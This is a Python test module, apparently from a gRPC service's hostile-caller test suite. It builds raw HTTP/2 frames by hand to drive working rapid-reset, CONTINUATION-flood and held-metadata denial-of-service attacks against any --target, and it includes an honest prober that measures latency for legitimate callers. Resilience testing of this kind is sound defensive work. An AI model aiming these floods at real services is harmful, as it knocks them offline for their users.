# SPDX-License-Identifier: Apache-2.0
# SPDX-FileCopyrightText: 2026 The CardService Authors
"""A raw HTTP/2 client for hostile-caller tests: the floods gRPC's own clients
never send (rapid reset, CONTINUATION without END_HEADERS, metadata held open),
and an honest prober that measures what legitimate callers see meanwhile.

Frames are packed by hand (RFC 9113 section 4.1), so the flood costs the sender
little; header blocks come from Debian's python3-hpack, never-indexed, so one
encoded block is valid on every stream. The prober speaks real gRPC through
python3-h2's state machine.

    python3 -m cardlib.h2abuse rapid-reset --target 127.0.0.1:P --rate 25000
    python3 -m cardlib.h2abuse probe --target 127.0.0.1:P --seconds 10
each prints one JSON line of figures.
"""
import argparse
import json
import select
import socket
import ssl
import struct
import threading
import time

import h2.config
import h2.connection
import h2.events
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 8
# An empty gRPC message (health.v1.HealthCheckRequest{}): flag 0, length 0.
EMPTY_GRPC_MESSAGE = b"\x00\x00\x00\x00\x00"
HEALTH_CHECK = "/grpc.health.v1.Health/Check"


def frame(kind, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream_id) + payload


def header_block(path, authority, extra=()):
    """A gRPC request's header block, every field literal never-indexed."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path),
              (":authority", authority), ("content-type", "application/grpc"),
              ("te", "trailers")] + list(extra)
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in fields])


def split_target(target):
    host, port = target.rsplit(":", 1)
    return host, int(port)


def tls_context(ca_file, cert_file=None, key_file=None):
    """A client context offering only h2, as gRPC clients do."""
    context = ssl.create_default_context(cafile=ca_file)
    context.set_alpn_protocols(["h2"])
    if cert_file:
        context.load_cert_chain(cert_file, key_file)
    return context


def connect(target, tls=None, server_name="card-server", timeout=5.0):
    """A TCP (or, with `tls`, an ssl.SSLContext, TLS) connection to target."""
    sock = socket.create_connection(split_target(target), timeout=timeout)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if tls is not None:
        sock = tls.wrap_socket(sock, server_hostname=server_name)
    return sock


class RawConnection:
    """One connection speaking raw frames, from one thread (an SSL socket must
    not be read and written at once). pump() drains what the server sent (a
    client that stops reading is a different attack), ACKs its SETTINGS if
    asked to, and records GOAWAY and the close."""

    SEND_TIMEOUT_S = 10.0

    def __init__(self, target, ack_settings=True, connect_timeout=5.0, tls=None):
        self.sock = connect(target, tls, timeout=connect_timeout)
        self.sock.settimeout(self.SEND_TIMEOUT_S)
        self.ack_settings = ack_settings
        self.goaway = None  # (last_stream_id, error_code) of the first GOAWAY
        self.closed = threading.Event()
        self.stalled = False  # a send waited SEND_TIMEOUT_S: the server stopped reading
        self.rst_received = 0
        self.buffer = b""
        self.send(PREFACE + frame(SETTINGS, 0, 0))

    def send(self, data):
        """False once the connection is closed (or stalled)."""
        if self.closed.is_set():
            return False
        try:
            self.sock.sendall(data)
        except socket.timeout:
            self.stalled = True
            self.closed.set()
        except OSError:
            self.closed.set()
        self.pump()
        return not self.closed.is_set()

    def pump(self):
        """Reads and handles whatever has arrived, without waiting for more."""
        while not self.closed.is_set():
            pending = isinstance(self.sock, ssl.SSLSocket) and self.sock.pending()
            if not pending and not select.select([self.sock], [], [], 0)[0]:
                return
            try:
                chunk = self.sock.recv(1 << 16)
            except (ssl.SSLWantReadError, BlockingIOError, socket.timeout):
                return
            except OSError:
                chunk = b""
            if not chunk:
                self.closed.set()
                return
            self.buffer += chunk
            while len(self.buffer) >= 9:
                length = int.from_bytes(self.buffer[:3], "big")
                if len(self.buffer) < 9 + length:
                    break
                kind, flags = self.buffer[3], self.buffer[4]
                payload = self.buffer[9:9 + length]
                self.buffer = self.buffer[9 + length:]
                self._on_frame(kind, flags, payload)

    def _on_frame(self, kind, flags, payload):
        if kind == SETTINGS and not flags & ACK and self.ack_settings:
            self.send(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, payload))
        elif kind == GOAWAY and self.goaway is None:
            self.goaway = struct.unpack(">II", payload[:8])
        elif kind == RST_STREAM:
            self.rst_received += 1

    def wait(self, seconds):
        """Keeps draining for `seconds` (or until the server closes)."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline and not self.closed.is_set():
            select.select([self.sock], [], [], min(0.1, max(0.0, deadline - time.monotonic())))
            self.pump()

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def rapid_reset(target, connections=4, rate=25000, seconds=10.0, with_data=False,
                ack_settings=True, reconnect=True, path=HEALTH_CHECK, tls=None):
    """HEADERS (+DATA) then RST_STREAM(CANCEL), `rate` streams a second spread
    over `connections` connections, for `seconds`. A connection the server
    closes is replaced (a real attacker reconnects) unless reconnect is False."""
    block = header_block(path, target)
    per_connection = rate / connections
    tick = 0.01
    totals = {"streams_sent": 0, "connections_opened": 0, "goaways": 0,
              "closed_by_server": 0, "stalled": 0, "connect_failures": 0}
    lock = threading.Lock()
    deadline = time.monotonic() + seconds

    def one_worker():
        conn, next_id, owed = None, 1, 0.0
        while time.monotonic() < deadline:
            if conn is None or conn.closed.is_set():
                if conn is not None:
                    with lock:
                        totals["stalled" if conn.stalled else "closed_by_server"] += 1
                        totals["goaways"] += conn.goaway is not None
                    conn.close()
                    if not reconnect:
                        return
                try:
                    conn = RawConnection(target, ack_settings, tls=tls)
                except OSError:
                    with lock:
                        totals["connect_failures"] += 1
                    conn = None
                    time.sleep(0.05)
                    continue
                with lock:
                    totals["connections_opened"] += 1
                next_id = 1
            owed += per_connection * tick
            batch = []
            while owed >= 1 and next_id < 2**31 - 2:
                flags = END_HEADERS | (0 if with_data else END_STREAM)
                batch.append(frame(HEADERS, flags, next_id, block))
                if with_data:
                    batch.append(frame(DATA, END_STREAM, next_id, EMPTY_GRPC_MESSAGE))
                batch.append(frame(RST_STREAM, 0, next_id, struct.pack(">I", CANCEL)))
                next_id += 2
                owed -= 1
            if batch and conn.send(b"".join(batch)):
                with lock:
                    totals["streams_sent"] += len(batch) // (3 if with_data else 2)
            conn.wait(tick)
        if conn is not None:
            with lock:
                totals["goaways"] += conn.goaway is not None
            conn.close()

    workers = [threading.Thread(target=one_worker) for _ in range(connections)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    return totals


def continuation_flood(target, connections=4, seconds=10.0, chunk=16384, ack_settings=True,
                       tls=None):
    """A HEADERS frame without END_HEADERS, then CONTINUATION frames of `chunk`
    bytes of one ever-growing header value, never ending the block."""
    totals = {"bytes_sent": 0, "goaways": 0, "closed_by_server": 0}
    lock = threading.Lock()
    deadline = time.monotonic() + seconds

    def one_worker():
        conn = RawConnection(target, ack_settings, tls=tls)
        # A literal never-indexed field with a new name whose value length says
        # 1 GiB: the server must buffer or refuse; it can never complete.
        first = header_block(HEALTH_CHECK, target) + b"\x10\x01x" + b"\x7f" + _varint(2**30 - 127)
        conn.send(frame(HEADERS, 0, 1, first))
        filler = frame(CONTINUATION, 0, 1, b"a" * chunk)
        while time.monotonic() < deadline and conn.send(filler):
            with lock:
                totals["bytes_sent"] += len(filler)
        conn.wait(deadline - time.monotonic())
        with lock:
            totals["closed_by_server"] += conn.closed.is_set()
            totals["goaways"] += conn.goaway is not None
        conn.close()

    workers = [threading.Thread(target=one_worker) for _ in range(connections)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    return totals


def _varint(value):
    """HPACK integer continuation bytes (RFC 7541 5.1) after a full prefix."""
    out = bytearray()
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def held_metadata(target, streams=300, value_bytes=1 << 20, hold_seconds=5.0,
                  ack_settings=True, tls=None):
    """`streams` streams on one connection, each with one `value_bytes` header
    (split in 16 KiB CONTINUATIONs) and no END_STREAM, held open. Returns how
    many streams the server refused or the connection survived."""
    conn = RawConnection(target, ack_settings, tls=tls)
    conn.wait(0.2)  # let the SETTINGS exchange finish: the worst case is after it
    value = b"v" * value_bytes
    block = header_block(HEALTH_CHECK, target) + b"\x10\x01x" + b"\x7f" + _varint(value_bytes - 127) + value
    sent = 0
    for i in range(streams):
        stream_id = 2 * i + 1
        pieces = [block[j:j + 16384] for j in range(0, len(block), 16384)]
        frames = [frame(HEADERS, END_HEADERS if len(pieces) == 1 else 0, stream_id, pieces[0])]
        for k, piece in enumerate(pieces[1:], start=1):
            frames.append(frame(CONTINUATION, END_HEADERS if k == len(pieces) - 1 else 0,
                                stream_id, piece))
        if not conn.send(b"".join(frames)):
            break
        sent += 1
    conn.wait(hold_seconds)
    result = {"streams_sent": sent, "rst_received": conn.rst_received,
              "closed_by_server": conn.closed.is_set(), "goaway": conn.goaway is not None}
    conn.close()
    return result


class GrpcProbe:
    """An honest gRPC client on python3-h2: one connection, health checks."""

    def __init__(self, target, timeout=5.0, tls=None):
        self.target = target
        self.sock = connect(target, tls, timeout=timeout)
        self.sock.settimeout(timeout)
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        # python3-hpack's Huffman coder takes minutes on a 1 MiB value; the
        # header sizes under test are the decoded ones anyway.
        plain_encode = self.h2.encoder.encode
        self.h2.encoder.encode = lambda headers, huffman=True: plain_encode(headers, False)
        self.h2.initiate_connection()
        self.sock.sendall(self.h2.data_to_send())

    def check(self, extra_headers=()):
        """One Health/Check; returns its grpc-status (an int), or raises OSError/
        TimeoutError when no answer comes."""
        stream_id = self.h2.get_next_available_stream_id()
        headers = [(":method", "POST"), (":scheme", "http"), (":path", HEALTH_CHECK),
                   (":authority", self.target), ("content-type", "application/grpc"),
                   ("te", "trailers")] + list(extra_headers)
        self.h2.send_headers(stream_id, headers)
        self.h2.send_data(stream_id, EMPTY_GRPC_MESSAGE, end_stream=True)
        self.sock.sendall(self.h2.data_to_send())
        status = None
        while status is None:
            data = self.sock.recv(1 << 16)
            if not data:
                raise ConnectionResetError("server closed the connection")
            for event in self.h2.receive_data(data):
                if isinstance(event, h2.events.DataReceived):
                    self.h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                elif isinstance(event, (h2.events.TrailersReceived, h2.events.ResponseReceived)) \
                        and event.stream_id == stream_id:
                    fields = {k.decode() if isinstance(k, bytes) else k:
                              v.decode() if isinstance(v, bytes) else v for k, v in event.headers}
                    if "grpc-status" in fields:
                        status = int(fields["grpc-status"])
                elif isinstance(event, h2.events.StreamReset) and event.stream_id == stream_id:
                    raise ConnectionResetError(f"stream reset, code {event.error_code}")
                elif isinstance(event, h2.events.ConnectionTerminated):
                    raise ConnectionResetError(f"GOAWAY {event.error_code}")
            self.sock.sendall(self.h2.data_to_send())
        return status

    def close(self):
        self.sock.close()


def percentile(sorted_values, q):
    if not sorted_values:
        return None
    return sorted_values[min(len(sorted_values) - 1, int(q * len(sorted_values)))]


def probe(target, seconds=10.0, rate=50.0, new_connection_every=0.25, timeout=2.0, tls=None):
    """Two honest callers for `seconds`: one connection opened up front calling
    at `rate`/s, and a new connection every `new_connection_every` s making one
    call. Latencies in ms; a failure is any answer but OK or no answer within
    `timeout`."""
    kept = {"latencies": [], "failures": 0}
    fresh = {"latencies": [], "failures": 0, "longest_unserved_s": 0.0}
    deadline = time.monotonic() + seconds

    def kept_caller():
        conn = None
        next_at = time.monotonic()
        while time.monotonic() < deadline:
            start = time.monotonic()
            try:
                if conn is None:
                    conn = GrpcProbe(target, timeout, tls)
                ok = conn.check() == 0
            except (OSError, h2.exceptions.H2Error):
                ok = False
                if conn is not None:
                    conn.close()
                conn = None
            if ok:
                kept["latencies"].append((time.monotonic() - start) * 1000)
            else:
                kept["failures"] += 1
            next_at += 1.0 / rate
            time.sleep(max(0.0, next_at - time.monotonic()))
        if conn is not None:
            conn.close()

    def fresh_caller():
        last_served = time.monotonic()
        while time.monotonic() < deadline:
            start = time.monotonic()
            try:
                conn = GrpcProbe(target, timeout, tls)
                try:
                    ok = conn.check() == 0
                finally:
                    conn.close()
            except (OSError, h2.exceptions.H2Error):
                ok = False
            now = time.monotonic()
            if ok:
                fresh["latencies"].append((now - start) * 1000)
                last_served = now
            else:
                fresh["failures"] += 1
                fresh["longest_unserved_s"] = max(fresh["longest_unserved_s"], now - last_served)
            time.sleep(max(0.0, new_connection_every - (time.monotonic() - start)))

    threads = [threading.Thread(target=kept_caller), threading.Thread(target=fresh_caller)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    def summary(side):
        values = sorted(side.pop("latencies"))
        side.update(calls_ok=len(values), p50_ms=percentile(values, 0.5),
                    p99_ms=percentile(values, 0.99), max_ms=values[-1] if values else None)
        return side
    return {"kept_connection": summary(kept), "new_connections": summary(fresh)}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("mode", choices=["rapid-reset", "continuation", "held-metadata", "probe"])
    parser.add_argument("--target", required=True)
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--rate", type=float, default=25000)
    parser.add_argument("--with_data", action="store_true")
    parser.add_argument("--no_settings_ack", action="store_true")
    parser.add_argument("--streams", type=int, default=300)
    parser.add_argument("--value_bytes", type=int, default=1 << 20)
    parser.add_argument("--path", default=HEALTH_CHECK, help="the method rapid-reset calls")
    parser.add_argument("--tls_ca_file", help="TLS (ALPN h2) against these roots")
    parser.add_argument("--tls_cert_file", help="client certificate (with --tls_key_file)")
    parser.add_argument("--tls_key_file")
    args = parser.parse_args()
    ack = not args.no_settings_ack
    tls = (tls_context(args.tls_ca_file, args.tls_cert_file, args.tls_key_file)
           if args.tls_ca_file else None)
    if args.mode == "rapid-reset":
        result = rapid_reset(args.target, args.connections, args.rate, args.seconds,
                             args.with_data, ack, path=args.path, tls=tls)
    elif args.mode == "continuation":
        result = continuation_flood(args.target, args.connections, args.seconds,
                                    ack_settings=ack, tls=tls)
    elif args.mode == "held-metadata":
        result = held_metadata(args.target, args.streams, args.value_bytes, args.seconds, ack,
                               tls=tls)
    else:
        result = probe(args.target, args.seconds, rate=args.rate if args.rate < 1000 else 50.0,
                       tls=tls)
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
